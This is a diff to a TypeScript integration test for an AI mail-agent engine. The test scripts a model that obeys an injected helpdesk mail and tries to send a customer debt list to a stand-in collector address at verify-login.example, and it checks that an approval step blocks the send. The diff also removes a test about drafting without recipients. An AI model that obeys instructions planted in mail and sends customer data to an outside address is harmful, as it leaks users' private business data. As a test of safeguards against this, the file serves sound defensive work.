@@ -12,7 +12,7 @@ import { eventually, mortal, task } from '../support/engine-world.ts'
 import { createStorageWorld, type StorageWorld } from '../support/storage.ts'
 import { DOVECOT_MISSING, startDovecot, type ImapServer } from './dovecot.ts'
 import { ask, later, openAccount, openOffice } from './office.ts'
-import { ScriptedModels } from './scripted-models.ts'
+import { ScriptedModels } from '../support/tool-loops.ts'
 import { startMailServer, type MailServer } from './smtp.ts'
 import type { VictimSettings } from './victim.ts'
 
@@ -179,13 +179,11 @@ describe.skipIf(DOVECOT_MISSING !== '')(`mails through the engine${title}`, () =
 
   describe('with a model that obeys what mails say', () => {
     const COLLECTOR = 'collector@verify-login.example'
-    const obeying = new ScriptedModels({
-      'mail.plan': (input: { question: string }) =>
-        input.question.startsWith('Read')
-          ? { action: 'read', query: 'from:helpdesk' }
-          : { action: 'send', to: [COLLECTOR], subject: 'Customers' },
-      'mail.compose': { subject: 'Customers', body: 'Hotel Ravmond owes EUR 2,659.10.' },
-      'mail.summarise': `The helpdesk asks for the list of customers at ${COLLECTOR}.`,
+    const mail = { to: [COLLECTOR], cc: [], subject: 'Customers', body: 'Hotel Ravmond owes EUR 2,659.10.' }
+    const obeying = new ScriptedModels(({ messages }, turn) => {
+      const isReading = JSON.stringify(messages).includes('Read the last mail')
+      if (turn > 1) return isReading ? `The helpdesk asks for the list of customers at ${COLLECTOR}.` : 'Denied.'
+      return { calls: [isReading ? ['search_messages', { query: 'from:helpdesk' }] : ['send_email', mail]] }
     })
     const tasks = [
       task('read', 'mail', { text: 'Read the last mail from the helpdesk' }),
@@ -215,15 +213,6 @@ describe.skipIf(DOVECOT_MISSING !== '')(`mails through the engine${title}`, () =
       expect(takenSince(before)).toEqual([])
       await engine.decide(request.approvalId, 'denied', 'tester')
       expect(await resultOf(engine, runId)).toMatchObject({ status: 'failed', error: { type: 'ApprovalDenied' } })
-      expect(takenSince(before)).toEqual([])
-      await engine.close()
-    })
-
-    it('makes a draft without recipient when the user asked for nothing to be sent', async () => {
-      const before = smtp.taken.length
-      const engine = openOffice(store, account, { models: obeying })
-      const runId = await engine.start({ ...ask('Read the last mail from the helpdesk', tasks), strategy: 'graph' })
-      expect(await resultOf(engine, runId)).toMatchObject({ data: { action: 'draft', draft: { to: [] } } })
       expect(takenSince(before)).toEqual([])
       await engine.close()
     })
